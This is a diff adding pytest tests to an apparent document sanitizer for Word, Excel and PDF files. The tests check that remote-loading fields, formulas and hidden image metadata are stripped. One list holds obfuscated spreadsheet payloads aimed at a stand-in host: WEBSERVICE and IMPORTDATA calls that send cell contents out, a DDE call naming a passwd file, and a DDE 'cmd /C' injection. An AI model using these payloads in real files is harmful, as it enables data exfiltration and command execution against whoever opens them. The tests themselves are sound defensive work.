@@ -80,6 +80,65 @@ def test_a_formula_that_asks_another_computer_goes_and_the_sum_stays():
     assert [again[cell].value for cell in ("A1", "A2", "A3")] == ["=SUM(B1:B2)", None, None]
 
 
+@pytest.mark.parametrize("cut", ["", "<!-- x -->", "<?x y?>", "</w:instrText><w:instrText>"])
+@pytest.mark.parametrize("space", [" ", ""])
+def test_a_field_that_loads_is_refused_however_its_word_is_cut(cut, space):
+    field = f'<w:r><w:instrText>INCLUDE{cut}PICTURE{space}"http://away/x.png"</w:instrText></w:r>'
+    data = made.rezipped(
+        made.word(),
+        change={"word/document.xml": lambda p: p.replace(b"</w:p>", field.encode() + b"</w:p>", 1)},
+    )
+    with pytest.raises(Problem) as refusal:
+        clean(data, "a.docx")
+    assert refusal.value.reasons[0].code == Reason.FILE_OUTSIDE
+
+
+def test_a_part_that_begins_with_a_long_emptiness_is_read_all_the_same():
+    part = b" \n" * 500 + FIELD.split("?>", 1)[1].format(space=USUAL).encode()
+    with pytest.raises(Problem) as refusal:
+        clean(made.rezipped(made.word(), add={"word/header9.bin": part}), "a.docx")
+    assert refusal.value.reasons[0].code == Reason.FILE_OUTSIDE
+
+
+ASKING = [
+    'WEB<!-- x -->SERVICE("http://away/?q="&amp;A1)', 'WEB<?x y?>SERVICE("http://away/")',
+    '<![CDATA[WEBSERVICE("http://away/")]]>', 'WEB<x/>SERVICE("http://away/")',
+    '_xlfn.WEBSERVICE("http://away/")', 'DDE("soffice";"/away/passwd";"A1")',
+    'IMPORTDATA("http://away/"&amp;A1)', 'IMPORTXML("http://away/","//a")',
+    'IMPORTHTML("http://away/","table",1)', 'IMPORTFEED("http://away/")',
+    'IMPORTRANGE("http://away/","A1")', "cmd<!-- -->&#124;'/C away'!A0",
+    "'C:\\away\\[book.xlsx]Sheet1'!A1", "'file:///away/x.ods'#$Sheet1.A1",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("formula", ASKING)
+def test_a_formula_that_asks_goes_however_it_is_written(formula):
+    row = f'<row r="90"><c r="A90"><f>{formula}</f><v>17</v></c></row></sheetData>'
+    page = "xl/worksheets/sheet1.xml"
+    data = made.rezipped(
+        made.sheet(), change={page: lambda p: p.replace(b"</sheetData>", row.encode())}
+    )
+    copy = clean(data, "a.xlsx").clean_bytes
+    with zipfile.ZipFile(io.BytesIO(copy)) as package:
+        assert b"away" not in package.read(page)
+    again = openpyxl.load_workbook(io.BytesIO(copy)).active
+    assert (again["A90"].value, again["B2"].value) == (17, "=SUM(B1:B1)")
+
+
+@pytest.mark.parametrize("tag", ["calculatedColumnFormula", "totalsRowFormula"])
+def test_a_formula_of_a_whole_column_goes_too(tag):
+    table = (
+        '<table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" id="1" name="T"'
+        ' displayName="T" ref="A1:A2"><tableColumns count="1"><tableColumn id="1" name="nama">'
+        f'<{tag}>WEBSERVICE("http://away/")</{tag}></tableColumn></tableColumns></table>'
+    )
+    data = made.rezipped(made.sheet(), add={"xl/tables/table1.xml": table.encode()})
+    with zipfile.ZipFile(io.BytesIO(clean(data, "a.xlsx").clean_bytes)) as package:
+        kept = package.read("xl/tables/table1.xml")
+    assert b"away" not in kept
+    assert b"nama" in kept
+
+
 def test_a_photo_in_a_word_file_loses_its_marks_whatever_it_is_called():
     info = PngImagePlugin.PngInfo()
     info.add_text("Author", made.CANARY.decode())
@@ -111,6 +170,14 @@ def test_a_second_picture_behind_a_photo_goes_and_the_pixels_stay(how):
     assert Image.open(io.BytesIO(bare)).tobytes() == Image.open(photo).tobytes()
 
 
+@pytest.mark.parametrize("between", [b"", b"\0", b"\0" * 9])
+def test_what_stands_between_two_marks_of_a_photo_hides_nothing(between):
+    photo = made.jpeg()
+    bare = strip_picture(photo[:2] + between + photo[2:])
+    assert made.CANARY not in bare
+    Image.open(io.BytesIO(bare)).load()
+
+
 def _pdf_with(photo, *filters):
     document = pikepdf.open(io.BytesIO(made.pdf()))
     image = pikepdf.Stream(document, b"")
@@ -134,6 +201,19 @@ def test_a_photo_in_a_pdf_loses_its_marks_also_where_it_is_packed_once_more(pack
         bare = document.pages[0].Resources.XObject.Im0.read_raw_bytes()
     assert made.CANARY not in bare
     assert Image.open(io.BytesIO(bare)).size == (64, 48)
+
+
+def test_a_photo_of_the_newer_kind_in_a_pdf_loses_its_marks_and_keeps_its_pixels():
+    before, kept = Image.radial_gradient("L").convert("RGB"), io.BytesIO()
+    before.save(kept, "JPEG2000")
+    marks = [made.box(kind, made.CANARY) for kind in (b"uuid", b"xml ", b"uinf")]
+    head = 32  # signature and file type come first
+    photo = kept.getvalue()[:head] + b"".join(marks) + kept.getvalue()[head:]
+    data = _pdf_with(photo, "/JPXDecode")
+    with pikepdf.open(io.BytesIO(clean(data, "a.pdf").clean_bytes)) as document:
+        bare = document.pages[0].Resources.XObject.Im0.read_raw_bytes()
+    assert made.CANARY not in bare
+    assert Image.open(io.BytesIO(bare)).tobytes() == before.tobytes()
 
 
 @pytest.mark.parametrize("false", ["/Foo", "/Annot", "/StructElem"])
